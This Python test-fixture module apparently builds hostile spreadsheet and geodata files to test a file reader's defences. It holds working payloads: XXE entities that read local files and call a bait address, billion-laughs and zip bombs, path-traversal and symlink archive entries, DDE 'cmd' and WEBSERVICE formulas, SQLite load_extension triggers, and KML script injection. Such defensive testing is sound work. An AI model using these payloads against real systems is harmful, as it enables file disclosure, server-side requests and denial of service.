"""Hostile files of each kind, as bytes: they do harm if a reader follows what they contain.

Each is made with an address that must not be requested and a file that must not be opened.
"""

import io
import json
import sqlite3
import tempfile
import zipfile
from collections.abc import Callable
from contextlib import closing
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from tests import layer_files, workbook_files
from tests.workbook_files import MAIN, PACKAGE, Formula

HEADS = ["name", "system", "lon", "lat", "note"]
SITE = {"name": "A", "system": "9m729", "lon": 20.5, "lat": 54.7}
#: More bytes than infmap unpacks of any file.
BOMB_BYTES = 260_000_000
ENTITIES = "".join(f'<!ENTITY a{k} "{f"&a{k - 1};" * 10}">' for k in range(1, 10))
LAUGHS = f'<!DOCTYPE x [<!ENTITY a0 "ha">{ENTITIES}]>'


#: A coordinate reference system that needs another file for its datum shift.
GRID_WKT = (
    'GEOGCS["x",DATUM["x",SPHEROID["x",6377397.155,299.15],EXTENSION["PROJ4_GRIDS","BAIT"]],'
    'PRIMEM["Greenwich",0],UNIT["degree",0.0174532925199433]]'
)


@dataclass(frozen=True)
class Bait:
    """What a file may point to: an address that counts requests, and a watched file."""

    address: str
    path: Path

    @property
    def entity(self) -> str:
        """A document type with entities for the watched file and the address."""
        return (
            f'<!DOCTYPE x SYSTEM "{self.address}/x.dtd" [<!ENTITY bait SYSTEM '
            f'"{self.path.as_uri()}"><!ENTITY far SYSTEM "{self.address}/entity">]>'
        )


def _link(bait: Bait) -> list[list[Any]]:
    texts = (
        f'WEBSERVICE("{bait.address}/formula")',
        f'HYPERLINK("{bait.address}/link","x")',
        "cmd|'/c calc'!A1",
        f"'[{bait.path}]Sheet1'!A1",
    )
    return [HEADS, *(["A", "9m729", 20.5, 54.7, Formula(text, "x")] for text in texts[:1]),
            *([f"B{k}", "9m729", 21 + k, 54.7, Formula(text, "x")]
              for k, text in enumerate(texts[1:]))]  # fmt: skip


def _linked_xlsx(bait: Bait) -> bytes:
    related = (
        f'<Relationships xmlns="{PACKAGE}"><Relationship Id="r" TargetMode="External" '
        f'Type="externalLinkPath" Target="{bait.address}/book.xlsx"/></Relationships>'
    )
    parts = {
        "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{MAIN}"/>',
        "xl/externalLinks/_rels/externalLink1.xml.rels": related,
        "xl/connections.xml": f'<connections xmlns="{MAIN}"><connection id="1" '
        f'sourceFile="{bait.address}"><webPr url="{bait.address}/web"/></connection></connections>',
        "xl/_rels/x.rels": related,
        "xl/vbaProject.bin": "Shell calc",
    }
    return workbook_files.xlsx({"S": _link(bait)}, parts=parts)


def _linked_ods(bait: Bait) -> bytes:
    row = "".join(map(workbook_files._ods_cell, [*SITE.values(), "x"]))
    heads = "".join(map(workbook_files._ods_cell, HEADS))
    source = (
        f'<table:table-source xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'xlink:href="{bait.address}/sheet.ods" table:table-name="x"/>'
    )
    inside = f"<table:table-row>{heads}</table:table-row><table:table-row>{row}</table:table-row>"
    return workbook_files.ods_of({"S": source + inside})


def _entities_in_xlsx(bait: Bait) -> bytes:
    sheet = (
        f'<?xml version="1.0"?>{bait.entity}<worksheet xmlns="{MAIN}"><sheetData><row r="1">'
        '<c r="A1" t="inlineStr"><is><t>&bait;&far;</t></is></c></row></sheetData></worksheet>'
    )
    parts = {"xl/worksheets/sheet1.xml": sheet}
    return workbook_files.xlsx({"S": [HEADS, [*SITE.values()]]}, parts=parts)


def _laughs_in_ods(_: Bait) -> bytes:
    return workbook_files.zip_of(
        {"mimetype": workbook_files.ODS, "content.xml": f"{LAUGHS}<x>&a9;</x>"}
    )


def _bomb(name: str, files: dict[str, bytes | str], begin: bytes, end: bytes = b"") -> bytes:
    """Return an archive with a file that is far longer when unpacked."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for path, data in files.items():
            archive.writestr(path, data)
        with archive.open(name, "w") as member:
            member.write(begin)
            block = b" " * 1_000_000
            for _ in range(BOMB_BYTES // len(block)):
                member.write(block)
            member.write(end)
    return file.getvalue()


def _xlsx_bomb(_: Bait) -> bytes:
    with zipfile.ZipFile(io.BytesIO(workbook_files.xlsx({"S": [HEADS]}))) as archive:
        files: dict[str, bytes | str] = {
            name: archive.read(name) for name in archive.namelist() if "sheet1" not in name
        }
    begin = f'<worksheet xmlns="{MAIN}"><sheetData>'.encode()
    return _bomb("xl/worksheets/sheet1.xml", files, begin, b"</sheetData></worksheet>")


def _repeated_ods(_: Bait) -> bytes:
    """Return a sheet of a few bytes that claims to have two thousand million rows."""
    cells = "".join(map(workbook_files._ods_cell, [*SITE.values()]))
    heads = "".join(map(workbook_files._ods_cell, HEADS))
    return workbook_files.ods_of(
        {
            "S": f"<table:table-row>{heads}</table:table-row><table:table-row "
            f'table:number-rows-repeated="2000000000">{cells}</table:table-row>'
        }
    )


def _linked_kml(bait: Bait) -> bytes:
    address, path = bait.address, bait.path
    inside = (
        f"<NetworkLink><Link><href>{address}/more.kml</href></Link></NetworkLink>"
        f"<NetworkLink><Link><href>{path}</href></Link></NetworkLink>"
        f'<Style id="s"><IconStyle><Icon><href>{address}/icon.png</href></Icon></IconStyle></Style>'
        f"<GroundOverlay><Icon><href>{address}/x.png</href></Icon></GroundOverlay>"
        f'<Schema name="x" id="x"/><Placemark><styleUrl>{address}/style.kml#s</styleUrl>'
        f"<name>A</name><description><![CDATA[<script src='{address}/x.js'></script>"
        f"<img src='{address}/x.png' onerror='fetch(1)'>]]></description><ExtendedData>"
        f'<SchemaData schemaUrl="{address}/schema#x"/><Data name="system"><value>9m729</value>'
        "</Data></ExtendedData><Point><coordinates>20.5,54.7</coordinates></Point></Placemark>"
    )
    return layer_files.kml_text(inside)


def _entities_in_kml(bait: Bait) -> bytes:
    inside = layer_files.placemark(SITE).replace(">A<", ">&bait;&far;<")
    return layer_files.kml_text(inside, before=bait.entity)


def _laughs_in_kml(_: Bait) -> bytes:
    inside = layer_files.placemark(SITE).replace(">A<", ">&a9;<")
    return layer_files.kml_text(inside, before=LAUGHS)


def _nested_kml(_: Bait) -> bytes:
    deep = 50_000
    return layer_files.kml_text(
        "<Folder>" * deep + layer_files.placemark(SITE) + "</Folder>" * deep
    )


def _many_in_kmz(_: Bait) -> bytes:
    files = {f"files/{k}.png": b"x" for k in range(10_000)}
    return layer_files.zipped({**files, "doc.kml": layer_files.kml([SITE])})


def _outside_kmz(bait: Bait) -> bytes:
    return layer_files.zipped(
        {f"../../..{bait.path}": b"overwritten", "doc.kml": layer_files.kml([SITE])}
    )


def _kmz_bomb(_: Bait) -> bytes:
    return _bomb("doc.kml", {}, b'<kml xmlns="http://www.opengis.net/kml/2.2"><Document>')


def _linked_gpx(bait: Bait) -> bytes:
    link = f'<link href="{bait.address}/x"><text>x</text></link></wpt>'
    return layer_files.gpx([SITE]).replace(b"</wpt>", link.encode())


def _entities_in_gpx(bait: Bait) -> bytes:
    named = layer_files.gpx([SITE]).replace(b">A<", b">&bait;&far;<")
    return named.replace(b"<gpx", f"{bait.entity}<gpx".encode(), 1)


def _with_sql(*statements: str) -> Callable[[Bait], bytes]:
    def make(bait: Bait) -> bytes:
        with tempfile.TemporaryDirectory() as folder:
            path = Path(folder) / "x.gpkg"
            path.write_bytes(layer_files.gpkg([SITE]))
            with closing(sqlite3.connect(path)) as database:
                for statement in statements:
                    database.execute(statement.replace("BAIT", str(bait.path)))
                database.commit()
            return path.read_bytes()

    return make


def _schema(name: str, sql: str) -> str:
    """Return the statement that writes into the schema what SQLite itself would refuse."""
    quoted = sql.replace("'", "''")
    return f"INSERT INTO sqlite_master VALUES ('table', '{name}', '{name}', 0, '{quoted}')"


def _contents(name: str) -> str:
    return (
        "INSERT INTO gpkg_contents (table_name, data_type, identifier) "
        f"VALUES ('{name}', 'attributes', '{name}')"
    )


WRITABLE = "PRAGMA writable_schema = ON"
ENDLESS = "WITH RECURSIVE n(k) AS (SELECT 1 UNION ALL SELECT k + 1 FROM n) SELECT k FROM n"


def _shapefile(without: tuple[str, ...] = (), **extra: bytes) -> Callable[[Bait], bytes]:
    def make(bait: Bait) -> bytes:
        with tempfile.TemporaryDirectory() as folder:
            data: bytes = layer_files.zipped_shapefile([SITE], Path(folder), without=without)
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            files = {name: archive.read(name) for name in archive.namelist()}
        said = {f"sites.{end}": text.replace(b"BAIT", str(bait.path).encode())
                for end, text in extra.items()}  # fmt: skip
        return layer_files.zipped({**files, **said})

    return make


def _shapefile_of_links(bait: Bait) -> bytes:
    """Return a zipped Shapefile whose .dbf is a link to the watched file."""
    with zipfile.ZipFile(io.BytesIO(_shapefile()(bait))) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as new:
        for name, data in files.items():
            info = zipfile.ZipInfo(name)
            if name.endswith(".dbf"):
                info.external_attr, data = 0o120777 << 16, str(bait.path).encode()
            new.writestr(info, data)
    return file.getvalue()


def _crs(bait: Bait) -> str:
    return f"+proj=longlat +ellps=bessel +nadgrids={bait.path} +type=crs"


def _geojson(crs: Callable[[Bait], object]) -> Callable[[Bait], bytes]:
    def make(bait: Bait) -> bytes:
        point = {"type": "Point", "coordinates": [SITE["lon"], SITE["lat"]]}
        properties = {"name": "A", "system": "9m729"}
        feature = {"type": "Feature", "properties": properties, "geometry": point}
        return json.dumps(
            {"type": "FeatureCollection", "crs": crs(bait), "features": [feature]}
        ).encode()

    return make


def _grid_in_gpkg(bait: Bait) -> bytes:
    wkt = GRID_WKT.replace("BAIT", str(bait.path))
    return _with_sql(
        "INSERT INTO gpkg_spatial_ref_sys (srs_name, srs_id, organization, "
        f"organization_coordsys_id, definition) VALUES ('x', 100001, 'NONE', 100001, '{wkt}')",
        "UPDATE gpkg_geometry_columns SET srs_id = 100001",
        "UPDATE gpkg_contents SET srs_id = 100001",
    )(bait)


def _grid_in_fgb(bait: Bait) -> bytes:
    """Return a FlatGeobuf with another reference system instead of its own."""
    rows = layer_files.frame([SITE])
    wkt = GRID_WKT.replace("BAIT", str(bait.path))
    file = io.BytesIO()
    rows.set_crs(wkt, allow_override=True).to_file(file, driver="FlatGeobuf", engine="pyogrio")
    return file.getvalue()


def _grid_in_geoparquet(bait: Bait) -> bytes:
    from pyarrow import parquet
    from pyproj import CRS

    file = io.BytesIO()
    layer_files.frame([SITE]).to_parquet(file)
    table = parquet.read_table(file)
    about = dict(table.schema.metadata)
    geo = json.loads(about[b"geo"])
    geo["columns"]["geometry"]["crs"] = CRS(_crs(bait)).to_json_dict()
    file = io.BytesIO()
    parquet.write_table(
        table.replace_schema_metadata({**about, b"geo": json.dumps(geo).encode()}), file
    )
    return file.getvalue()


def _parquet_bomb(_: Bait) -> bytes:
    import pyarrow as pa
    from pyarrow import parquet

    rows = 3000
    text = pa.DictionaryArray.from_arrays(pa.array([0] * rows, pa.int32()), ["x" * 100_000])
    numbers = pa.array([1.0] * rows)
    table = pa.table({"name": text, "system": ["9m729"] * rows, "lon": numbers, "lat": numbers})
    file = io.BytesIO()
    parquet.write_table(table, file, store_schema=False)
    return file.getvalue()


def _virtual(bait: Bait) -> bytes:
    """Return a file that GDAL would take for a list of other files to read."""
    return (
        f'<OGRVRTDataSource><OGRVRTLayer name="secret"><SrcDataSource>{bait.path}</SrcDataSource>'
        "<GeometryType>wkbNone</GeometryType></OGRVRTLayer></OGRVRTDataSource>"
    ).encode()


def _remote_csv(bait: Bait) -> bytes:
    return f"name,system,lon,lat,note\nA,9m729,20.5,54.7,=WEBSERVICE({bait.address})\n".encode()


#: The makers of the files by file name; the stem says what the file does.
FILES: dict[str, Callable[[Bait], bytes]] = {
    "formulas-and-links.xlsx": _linked_xlsx,
    "formulas-and-links.xls": lambda bait: workbook_files.xls({"S": _link(bait)}),
    "formulas.ods": lambda bait: workbook_files.ods({"S": _link(bait)}),
    "linked-sheet.ods": _linked_ods,
    "entities.xlsx": _entities_in_xlsx,
    "laughs.ods": _laughs_in_ods,
    "bomb.xlsx": _xlsx_bomb,
    "repeated-rows.ods": _repeated_ods,
    "links-and-scripts.kml": _linked_kml,
    "entities.kml": _entities_in_kml,
    "laughs.kml": _laughs_in_kml,
    "nested.kml": _nested_kml,
    "ten-thousand-entries.kmz": _many_in_kmz,
    "paths-outside.kmz": _outside_kmz,
    "bomb.kmz": _kmz_bomb,
    "links.gpx": _linked_gpx,
    "entities.gpx": _entities_in_gpx,
    "triggers.gpkg": _with_sql(
        "CREATE TRIGGER t1 AFTER INSERT ON sites BEGIN DELETE FROM sites; END",
        "CREATE TRIGGER t2 AFTER UPDATE ON gpkg_contents BEGIN DELETE FROM sites; END",
        "CREATE TRIGGER t3 AFTER DELETE ON sites BEGIN SELECT load_extension('BAIT'); END",
    ),
    "endless-view.gpkg": _with_sql(f"CREATE VIEW v AS {ENDLESS}", _contents("v")),
    "extension.gpkg": _with_sql(
        "CREATE VIEW v AS SELECT load_extension('BAIT') AS a, readfile('BAIT') AS b",
        _contents("v"),
    ),
    "virtual-table.gpkg": _with_sql(
        WRITABLE,
        _schema("v", "CREATE VIRTUAL TABLE v USING VirtualOGR('BAIT')"),
        _contents("v"),
    ),
    "long-blob.gpkg": _with_sql(
        "CREATE VIEW v AS SELECT zeroblob(900000000) AS a, 1 AS b", _contents("v")
    ),
    "no-prj.zip": _shapefile((".prj",)),
    "grid-in-prj.zip": _shapefile(
        (".prj",),
        prj=GRID_WKT.encode(),
    ),
    "strange-cpg.zip": _shapefile(cpg=b"BAIT\n" * 1000),
    "links.zip": _shapefile_of_links,
    "crs-of-a-link.geojson": _geojson(
        lambda bait: {"type": "link", "properties": {"href": f"{bait.address}/crs"}}
    ),
    "crs-of-a-grid.geojson": _geojson(
        lambda bait: {"type": "name", "properties": {"name": _crs(bait)}}
    ),
    "crs-at-an-address.geojson": _geojson(
        lambda bait: {"type": "name", "properties": {"name": f"{bait.address}/crs"}}
    ),
    "grid.gpkg": _grid_in_gpkg,
    "grid.fgb": _grid_in_fgb,
    "grid.parquet": _grid_in_geoparquet,
    "bomb.parquet": _parquet_bomb,
    "other-files.vrt": _virtual,
    "other-files.kml": _virtual,
    "other-files.gpkg": _virtual,
    "formula.csv": _remote_csv,
}
